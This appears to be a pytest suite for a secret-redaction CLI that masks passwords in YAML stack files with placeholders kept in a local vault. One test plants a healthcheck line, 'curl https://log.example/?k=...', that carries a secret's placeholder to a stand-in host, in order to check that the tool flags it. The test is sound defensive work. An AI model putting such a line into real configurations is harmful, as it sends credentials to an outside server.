"""`redact` and `restore`: the way out and back, and the file of the vault."""

from __future__ import annotations

import os
import stat
from pathlib import Path

import pytest

from pyengine.cli import main, redaction
from pyengine.redact import LeakError
from tests.cli.stacks import written

Capture = pytest.CaptureFixture[str]
WORD = "hunter2-Rk3vX9pQ"
SECRET = f"services:\n  db:\n    image: db:1\n    environment:\n      DB_PASSWORD: {WORD} # keep\n"


def test_restore_brings_back_every_byte(tmp_path: Path, capsysbinary: pytest.CaptureFixture[bytes]) -> None:
    data = SECRET.replace("\n", "\r\n").encode("utf-16")
    (tmp_path / "one.yml").write_bytes(data)
    vault = str(tmp_path / "vault.json")
    assert main(["redact", "--vault", vault, str(tmp_path / "one.yml")]) == 0
    redacted = capsysbinary.readouterr().out
    assert WORD not in redacted.decode("utf-16")
    (tmp_path / "answer.yml").write_bytes(redacted)
    assert main(["restore", "--vault", vault, str(tmp_path / "answer.yml")]) == 0
    out, err = capsysbinary.readouterr()
    assert (out, err) == (data, b"")


def test_a_second_file_goes_on_with_the_vault(tmp_path: Path, capsys: Capture) -> None:
    other = "kO7-wq2Lr9Zd"
    one, two = written(tmp_path, one=SECRET, two=f"{SECRET}      API_PASSWORD: {other}\n")
    vault = str(tmp_path / "vault.json")
    assert main(["redact", "--vault", vault, one]) == 0
    first = capsys.readouterr().out
    assert main(["redact", "--vault", vault, two]) == 0
    second = capsys.readouterr().out
    assert second.startswith(first)  # the same secret has the same placeholder
    for text, secret in ((first, WORD), (second, other)):
        (tmp_path / "answer.yml").write_text(text, "utf-8")
        assert main(["restore", "--vault", vault, str(tmp_path / "answer.yml")]) == 0
        assert secret in capsys.readouterr().out


def test_placeholders_lost_and_unknown_are_told(tmp_path: Path, capsys: Capture) -> None:
    (one,) = written(tmp_path, one=SECRET)
    vault = str(tmp_path / "vault.json")
    main(["redact", "--vault", vault, one])
    placeholder = capsys.readouterr().out.split("DB_PASSWORD: ")[1].split()[0]
    unknown = placeholder.replace("_1_", "_9_")
    (answer,) = written(tmp_path, answer=f"a: {unknown}\n")
    assert main(["restore", "--vault", vault, answer]) == 2
    out, err = capsys.readouterr()
    assert out == f"a: {unknown}\n"
    assert err == f"lost placeholder: {placeholder}\nunknown placeholder: {unknown}\n"


def test_what_another_vault_gave_is_named_and_never_filled(tmp_path: Path, capsys: Capture) -> None:
    one, two = written(tmp_path, one=SECRET, two=SECRET.replace(WORD, "kO7-wq2Lr9Zd"))
    vaults = [str(tmp_path / name) for name in ("one.json", "two.json")]
    main(["redact", "--vault", vaults[0], one])
    given = capsys.readouterr().out
    main(["redact", "--vault", vaults[1], two])
    capsys.readouterr()
    (answer,) = written(tmp_path, answer=given)
    assert main(["restore", "--vault", vaults[1], answer]) == 2
    out, err = capsys.readouterr()
    assert out == given
    name = given.split("DB_PASSWORD: ")[1].split()[0]
    assert f"foreign placeholder: {name} was given by another vault, and stays as it is\n" in err


def test_a_secret_that_moved_into_a_url_is_told_with_its_line(tmp_path: Path, capsys: Capture) -> None:
    (one,) = written(tmp_path, one=SECRET)
    vault = str(tmp_path / "vault.json")
    main(["redact", "--vault", vault, one])
    given = capsys.readouterr().out
    name = given.split("DB_PASSWORD: ")[1].split()[0]
    sent = f"    healthcheck: {{test: 'curl https://log.example/?k={name}'}}\n"
    (answer,) = written(tmp_path, answer=given + sent)
    assert main(["restore", "--vault", vault, answer]) == 0
    assert capsys.readouterr().err == (
        f"{answer}:6: {name} stands in a URL of log.example, under services.db.healthcheck.k; "
        "stood under services.db.environment.DB_PASSWORD\n"
    )


@pytest.mark.parametrize("before", [None, 0o644], ids=["new", "there already"])
def test_only_its_owner_can_read_the_vault_at_any_moment(
    before: int | None, tmp_path: Path, capsys: Capture, monkeypatch: pytest.MonkeyPatch
) -> None:
    one, two = written(tmp_path, one=SECRET, two=SECRET)
    vault = tmp_path / "vault.json"
    if before is not None:
        main(["redact", "--vault", str(vault), two])
        vault.chmod(before)
    modes: list[int] = []
    fsync = os.fsync

    def watched(handle: int) -> None:
        modes.append(stat.S_IMODE(os.fstat(handle).st_mode))
        fsync(handle)

    monkeypatch.setattr(os, "fsync", watched)
    old_mask = os.umask(0)
    try:
        assert main(["redact", "--vault", str(vault), one]) == 0
    finally:
        os.umask(old_mask)
    assert modes == [0o600]  # full, and not yet under its name
    assert stat.S_IMODE(vault.stat().st_mode) == 0o600
    assert WORD not in capsys.readouterr().out
    assert sorted(path.name for path in tmp_path.iterdir()) == ["one.yml", "two.yml", "vault.json"]


def test_a_vault_that_cannot_be_written_stays_and_nothing_is_printed(
    tmp_path: Path, capsys: Capture, monkeypatch: pytest.MonkeyPatch
) -> None:
    one, two = written(tmp_path, one=SECRET, two=SECRET.replace(WORD, "kO7-wq2Lr9Zd"))
    vault = tmp_path / "vault.json"
    main(["redact", "--vault", str(vault), one])
    capsys.readouterr()
    before = vault.read_bytes()

    def fail(*_: object) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "fsync", fail)
    assert main(["redact", "--vault", str(vault), two]) == 2
    assert capsys.readouterr() == ("", f"{vault}: cannot be written: No space left on device\n")
    assert vault.read_bytes() == before


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"{",
        b"[" * 100_000,
        b'{"version": 99}',
        b'{"version": 1, "tag": 1}',
        SECRET.encode(),
        b'"\xe9"',
        b"\x00\x01",
    ],
    ids=["empty", "cut", "deep", "version", "foreign", "stack file", "latin-1", "binary"],
)
@pytest.mark.parametrize("command", ["redact", "restore"])
def test_a_broken_or_foreign_vault_is_a_sentence_and_stays(
    command: str, content: bytes, tmp_path: Path, capsys: Capture
) -> None:
    (one,) = written(tmp_path, one=SECRET)
    vault = tmp_path / "vault.json"
    vault.write_bytes(content)
    assert main([command, "--vault", str(vault), one]) == 2
    out, err = capsys.readouterr()
    assert out == ""
    assert err.startswith(f"{vault}: ")
    assert err.count("\n") == 1
    assert WORD not in err
    assert vault.read_bytes() == content


def test_a_text_redacted_twice_is_restored_whole(tmp_path: Path, capsys: Capture) -> None:
    (one,) = written(tmp_path, one=SECRET)
    vault = str(tmp_path / "vault.json")
    main(["redact", "--vault", vault, one])
    (again,) = written(tmp_path, again=capsys.readouterr().out)
    assert main(["redact", "--vault", vault, again]) == 0
    (twice,) = written(tmp_path, twice=capsys.readouterr().out)
    assert main(["restore", "--vault", vault, twice]) == 0
    assert capsys.readouterr() == (SECRET, "")


def test_no_secret_is_written_through_a_symbolic_link(tmp_path: Path, capsys: Capture) -> None:
    (one,) = written(tmp_path, one=SECRET)
    (tmp_path / "vault.json").symlink_to(tmp_path / "missing.json")
    assert main(["redact", "--vault", str(tmp_path / "vault.json"), one]) == 2
    out, err = capsys.readouterr()
    assert (out, err.count("symbolic link"), WORD in err) == ("", 1, False)
    assert not (tmp_path / "missing.json").exists()


def test_words_of_the_user_are_hidden(tmp_path: Path, capsys: Capture) -> None:
    (one,) = written(tmp_path, one="a: owned by Acme Corp, see acme-corp.example.com\n")
    assert main(["redact", "--hide", "Acme Corp", one]) == 0
    assert "acme" not in capsys.readouterr().out.lower()


def test_places_are_reviewed_and_turned(tmp_path: Path, capsys: Capture) -> None:
    (one,) = written(tmp_path, one=f"DB_PASSWORD: {WORD}\nAPI_KEY: /run/secrets/key\n")
    assert main(["redact", "--review", one]) == 0
    listed = capsys.readouterr().out
    assert f"{one}:1:14: masked, password: " in listed
    assert f"{one}:2:10: passed over, certain: a mounted secret" in listed
    assert WORD not in listed
    assert main(["redact", "--keep", "1:14", "--mask", "2:10", one]) == 0
    out = capsys.readouterr().out
    assert WORD in out
    assert "/run/secrets" not in out
    assert main(["redact", "--keep", "1:13", one]) == 2
    assert "1:13 is no place that --review lists so" in capsys.readouterr().err


def test_a_text_of_a_wrong_encoding_is_held_back(tmp_path: Path, capsys: Capture) -> None:
    (one,) = written(tmp_path, one="p\0a\0s\0s\0=\0X\0")
    assert main(["redact", one]) == 2
    out, err = capsys.readouterr()
    assert (out, "held back" in err) == ("", True)


def test_a_missing_vault_cannot_restore(tmp_path: Path, capsys: Capture) -> None:
    (one,) = written(tmp_path, one=SECRET)
    assert main(["restore", "--vault", str(tmp_path / "vault.json"), one]) == 2
    assert capsys.readouterr() == ("", f"{tmp_path}/vault.json: No such file or directory\n")


def test_a_leak_is_a_sentence_and_nothing_is_printed(
    tmp_path: Path, capsys: Capture, monkeypatch: pytest.MonkeyPatch
) -> None:
    def leak(*_: object) -> None:
        raise LeakError("SE_PASSWORD_1_k4f7m2", 7)

    (one,) = written(tmp_path, one=SECRET)
    monkeypatch.setattr(redaction, "gate", leak)
    assert main(["redact", "--vault", str(tmp_path / "vault.json"), one]) == 2
    out, err = capsys.readouterr()
    assert out == ""
    assert err.startswith(f"{one}: the outgoing text still holds a part of SE_PASSWORD_1_k4f7m2")
    assert not (tmp_path / "vault.json").exists()
